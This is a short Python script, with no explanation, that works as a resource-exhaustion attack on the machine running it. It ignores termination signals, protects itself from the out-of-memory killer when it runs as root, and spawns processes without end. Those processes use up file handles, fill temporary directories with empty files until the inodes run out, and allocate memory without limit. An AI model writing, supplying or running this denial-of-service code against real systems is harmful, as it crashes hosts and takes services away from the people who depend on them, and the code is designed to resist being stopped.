import multiprocessing as mp
import os
import signal
import tempfile


def handles():
    keep = []
    while True:
        try:
            keep.append(os.open("/dev/null", os.O_RDONLY))
            keep.extend(os.pipe())
        except OSError:
            mp.Process(target=handles).start()


def inodes(d):
    n = 0
    while True:
        try:
            open(os.path.join(d, str(n)), "w").close()
            n += 1
        except OSError:
            d = tempfile.mkdtemp(dir="/var/tmp")


def ram():
    blocks = []
    while True:
        blocks.append(bytearray(os.urandom(1 << 20) * 256))


for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(s, signal.SIG_IGN)
open("/proc/self/oom_score_adj", "w").write("-1000") if os.getuid() == 0 else None
while True:
    for fn, a in ((handles, ()), (ram, ()), (inodes, (tempfile.gettempdir(),))):
        mp.Process(target=fn, args=a).start()
